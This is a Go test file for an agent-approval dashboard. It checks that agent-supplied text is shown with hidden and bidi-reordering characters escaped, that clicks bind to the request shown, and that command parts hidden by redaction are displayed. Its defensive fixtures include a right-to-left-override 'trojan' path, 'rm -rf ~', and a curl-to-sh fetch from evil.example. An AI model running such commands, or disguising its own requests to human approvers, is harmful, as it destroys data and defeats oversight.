package dashboard

import (
	"bytes"
	"encoding/json"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/safeclaw/safeclaw/action"
	"github.com/safeclaw/safeclaw/approval"
)

// runScript runs app.js under node with the small DOM of testdata/dom.js
// and returns what it reports. Without node the test is skipped: the
// static checks of security_test.go still run.
func runScript(t *testing.T, in map[string]any) map[string]json.RawMessage {
	t.Helper()
	node, err := exec.LookPath("node")
	if err != nil {
		t.Skip("node is not installed")
	}
	app, err := filepath.Abs("assets/app.js")
	if err != nil {
		t.Fatal(err)
	}
	in["app"] = app
	data, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(node, "testdata/dom.js")
	cmd.Stdin = bytes.NewReader(data)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("node: %v\n%s", err, stderr.String())
	}
	var res map[string]json.RawMessage
	if err := json.Unmarshal(out, &res); err != nil {
		t.Fatalf("node output: %v: %.500s", err, out)
	}
	return res
}

// hiddenRunes are the code points that must never reach the page as
// themselves: control characters other than newline and tab, format
// characters (bidi overrides and isolates, zero-width characters, tag
// characters) and the line and paragraph separators.
func hiddenRunes() []rune {
	var out []rune
	for _, tab := range []*unicode.RangeTable{unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp} {
		for _, r16 := range tab.R16 {
			for r := rune(r16.Lo); r <= rune(r16.Hi); r += rune(r16.Stride) {
				if r != '\n' && r != '\t' {
					out = append(out, r)
				}
			}
		}
		for _, r32 := range tab.R32 {
			for r := rune(r32.Lo); r <= rune(r32.Hi); r += rune(r32.Stride) {
				out = append(out, r)
			}
		}
	}
	return out
}

// trojan is agent text built to read differently on screen: a right-to-left
// override that turns "/tmp/evil/hsab" into what looks like a home project,
// an isolate, a zero-width space, tag characters (invisible), and a line
// separator.
const trojan = "/tmp/\u202ejorp/u/emoh\u202c \u2066x\u2069 a\u200bb \U000e0072\U000e006d c\u2028d"

func hostileView() approvalsView {
	now := time.Now()
	rec := &approval.Record{
		ID: "req1", Hash: "sha256:" + strings.Repeat("ab", 32), Status: approval.Pending, Created: now, Deadline: now.Add(time.Minute),
		Agent: "claude" + trojan, Session: "s1", Cwd: trojan, Input: "npm test" + trojan + "\nrm -rf ~",
		Parts:     []approval.PartSummary{{Text: "npm test" + trojan, Actions: []string{"shell.execute" + trojan}}},
		Rule:      &action.RuleRef{Name: "Ask" + trojan, Source: "policy.yaml" + trojan},
		Reason:    "because" + trojan,
		Requester: "pid 1" + trojan,
	}
	old := &approval.Record{ID: "req0", Hash: rec.Hash, Status: approval.Denied, Created: now, Input: "ls" + trojan,
		Answer: &approval.Answer{Approver: "me" + trojan, Channel: "cli", Reason: "no" + trojan, Time: now}}
	return approvalsView{Pending: []*approval.Record{rec}, History: []*approval.Record{old}}
}

func rawString(t *testing.T, m map[string]json.RawMessage, k string) string {
	t.Helper()
	var s string
	if err := json.Unmarshal(m[k], &s); err != nil {
		t.Fatalf("%s: %v", k, err)
	}
	return s
}

// TestScriptShowsHiddenCharacters: every field of a request the agent
// controls (command, directory, agent, rule, reason, requester, parts,
// history) is shown with its invisible and reordering characters escaped,
// not only the command. Found: the card's directory, agent, reason, rule
// and requester went to the page raw, so a directory the agent named with a
// right-to-left override showed as another path; visible() missed tag
// characters, U+206A-U+206F, the Arabic and Syriac format characters and
// U+2028/U+2029.
func TestScriptShowsHiddenCharacters(t *testing.T) {
	cps := hiddenRunes()
	res := runScript(t, map[string]any{"view": hostileView(), "codepoints": cps,
		"samples": []string{"a\nb\tc <b>x</b> \"q\" 'j' javascript:x", "\u202e", "\U000e0041"}})
	var kept []rune
	if err := json.Unmarshal(res["kept"], &kept); err != nil {
		t.Fatal(err)
	}
	if len(kept) > 0 {
		t.Errorf("visible() leaves %d hidden code points as they are, such as %U", len(kept), kept[:min(len(kept), 8)])
	}
	var samples []string
	if err := json.Unmarshal(res["samples"], &samples); err != nil {
		t.Fatal(err)
	}
	want := []string{"a\nb\tc <b>x</b> \"q\" 'j' javascript:x", `\u202e`, `\u{e0041}`}
	for i := range want {
		if samples[i] != want[i] {
			t.Errorf("visible(sample %d) = %q, want %q", i, samples[i], want[i])
		}
	}
	hidden := regexp.MustCompile(`[\p{Cf}\x{2028}\x{2029}\x00-\x08\x0b-\x1f\x7f-\x9f]`)
	for _, k := range []string{"pendingText", "historyText"} {
		text := rawString(t, res, k)
		if loc := hidden.FindStringIndex(text); loc != nil {
			t.Errorf("%s shows %q raw: %q", k, text[loc[0]:loc[1]], text)
		}
	}
	pending := rawString(t, res, "pendingText")
	for _, want := range []string{`/tmp/\u202ejorp/u/emoh\u202c`, `\u{e0072}\u{e006d}`, `c\u2028d`, "rm -rf ~",
		"The request has 2 lines", "Session: s1"} {
		if !strings.Contains(pending, want) {
			t.Errorf("card does not show %q: %q", want, pending)
		}
	}
}

// TestScriptAnswerBindsHashAfterSettling: an answer names the hash of the
// request as shown, and a click in the first second after the pending list
// changed does nothing (found: a request the agent files or lets expire at
// the right moment moves the cards, and the person's click lands on
// another request's button).
func TestScriptAnswerBindsHashAfterSettling(t *testing.T) {
	v := hostileView()
	res := runScript(t, map[string]any{"view": v, "codepoints": []rune{}})
	var hasty int
	if err := json.Unmarshal(res["hastyFetches"], &hasty); err != nil {
		t.Fatal(err)
	}
	if hasty != 0 {
		t.Errorf("a click 300ms after the list changed sent %d requests", hasty)
	}
	if st := rawString(t, res, "hastyStatus"); !strings.Contains(st, "just changed") {
		t.Errorf("status after a hasty click: %q", st)
	}
	var answers []struct {
		Path string         `json:"path"`
		Body map[string]any `json:"body"`
	}
	if err := json.Unmarshal(res["answers"], &answers); err != nil {
		t.Fatal(err)
	}
	if len(answers) != 1 {
		t.Fatalf("answers sent: %+v", answers)
	}
	a := answers[0]
	if a.Path != "/api/approvals/req1/answer" || a.Body["approve"] != true || a.Body["scope"] != "once" || a.Body["hash"] != v.Pending[0].Hash {
		t.Errorf("answer %+v, want approve once of req1 bound to %s", a, v.Pending[0].Hash)
	}
}

// TestCardTextIsLeftToRight: right-to-left letters (not format characters,
// which visible() escapes) still reorder the neutral characters around them
// under the bidi algorithm, so that path segments or command words read in
// another order than they run; a request's command, parts and directory are
// shown in stored order.
func TestCardTextIsLeftToRight(t *testing.T) {
	css, err := assetFS.ReadFile("assets/style.css")
	if err != nil {
		t.Fatal(err)
	}
	if !regexp.MustCompile(`\.card pre, \.card code, td\.mono \{ unicode-bidi: bidi-override; direction: ltr; \}`).Match(css) {
		t.Error("style.css does not show request text left to right in stored order")
	}
	js, err := assetFS.ReadFile("assets/app.js")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(js), `el("code", {}, r.cwd || "-")`) {
		t.Error("the card's directory is not shown as code")
	}
}

// TestScriptTextGoesThroughVisible: text reaches the page through el() and
// setText(), which escape hidden characters; no other text sink is used.
func TestScriptTextGoesThroughVisible(t *testing.T) {
	js, err := assetFS.ReadFile("assets/app.js")
	if err != nil {
		t.Fatal(err)
	}
	code := stripJSComments(string(js))
	if n := strings.Count(code, ".textContent ="); n != 1 || !strings.Contains(code, "function setText(node, s) { node.textContent = visible(s); }") {
		t.Errorf("textContent is set %d times; only setText() may set it", n)
	}
	if !strings.Contains(code, "e.append(c instanceof Node ? c : visible(String(c)));") {
		t.Error("el() does not pass its text children through visible()")
	}
	// Strings handed to append/replaceChildren bypass visible(): only
	// literals may be.
	bare := regexp.MustCompile(`\.(?:append|replaceChildren|prepend|before|after|replaceWith)\(\s*(?:[a-z]\w*\.(?:message|text|output|input|name)|e\.|r\.|d\.|p\.|v\.|st\.)`)
	for _, m := range bare.FindAllString(code, -1) {
		t.Errorf("app.js hands server text to the DOM unescaped: %s", m)
	}
	if n := strings.Count(code, "createTextNode("); n != 1 {
		t.Errorf("createTextNode used %d times; only raw() (the editor's highlighting) may", n)
	}
}

// TestScriptShowsPartsTheInputHides: secrets are redacted in the input a
// card shows, and a redacted value can hold a command substitution, whose
// commands run: mysql -p"$(curl -s URL | sh)" shows as mysql -p"[REDACTED]".
// The card must then show the parts (curl, sh) without a click, as the
// terminal does whenever the parts say more than the input (found: they
// were folded away under "Parts and facets").
func TestScriptShowsPartsTheInputHides(t *testing.T) {
	now := time.Now()
	card := func(input string, parts ...string) approvalsView {
		rec := &approval.Record{ID: "req1", Hash: "sha256:" + strings.Repeat("ab", 32), Status: approval.Pending, Created: now,
			Deadline: now.Add(time.Minute), Agent: "claude", Input: input}
		for _, p := range parts {
			rec.Parts = append(rec.Parts, approval.PartSummary{Text: p, Actions: []string{"shell.execute"}})
		}
		return approvalsView{Pending: []*approval.Record{rec}, History: []*approval.Record{}}
	}
	for _, tt := range []struct {
		name string
		view approvalsView
		open bool
	}{
		{"a redacted substitution", card(`mysql -u root -p"[REDACTED]" db`, "curl -s https://evil.example/x", "sh", `mysql -u root -p"[REDACTED]" db`), true},
		{"a pipeline", card("ls | wc -l", "ls", "wc -l"), true},
		{"one part that is the input", card("npm run dev", "npm run dev"), false},
	} {
		res := runScript(t, map[string]any{"view": tt.view, "codepoints": []rune{}})
		var open []bool
		if err := json.Unmarshal(res["partsOpen"], &open); err != nil {
			t.Fatal(err)
		}
		if len(open) != 1 || open[0] != tt.open {
			t.Errorf("%s: parts shown open %v, want [%v]", tt.name, open, tt.open)
		}
		if text := rawString(t, res, "pendingText"); tt.open && !strings.Contains(text, tt.view.Pending[0].Parts[0].Text) {
			t.Errorf("%s: card lacks the part %q: %q", tt.name, tt.view.Pending[0].Parts[0].Text, text)
		}
	}
}

// TestScriptOffersOnlyScopesThatCanBeTaken: "Approve for session" needs the
// agent's session, and "Approve always" is not offered for the managed
// policy's asks (the server refuses both; the card used to offer them and
// answer with a generic error).
func TestScriptOffersOnlyScopesThatCanBeTaken(t *testing.T) {
	now := time.Now()
	card := func(session, layer string) approvalsView {
		rec := &approval.Record{ID: "req1", Hash: "sha256:" + strings.Repeat("ab", 32), Status: approval.Pending, Created: now,
			Deadline: now.Add(time.Minute), Agent: "claude", Input: "npm run dev", Session: session,
			Rule: &action.RuleRef{Name: "ask npm", Layer: layer}}
		rec.Parts = []approval.PartSummary{{Text: "npm run dev", Actions: []string{"shell.execute"}}}
		return approvalsView{Pending: []*approval.Record{rec}, History: []*approval.Record{}}
	}
	for _, tt := range []struct {
		session, layer          string
		wantSession, wantAlways bool
	}{
		{"s1", "user", true, true},
		{"", "user", false, true},
		{"s1", "managed", true, false},
	} {
		res := runScript(t, map[string]any{"view": card(tt.session, tt.layer), "codepoints": []rune{}})
		text := rawString(t, res, "pendingText")
		if got := strings.Contains(text, "Approve for session"); got != tt.wantSession {
			t.Errorf("session %q: session button %v, want %v: %q", tt.session, got, tt.wantSession, text)
		}
		if got := strings.Contains(text, "Approve always"); got != tt.wantAlways {
			t.Errorf("layer %q: always button %v, want %v: %q", tt.layer, got, tt.wantAlways, text)
		}
	}
}
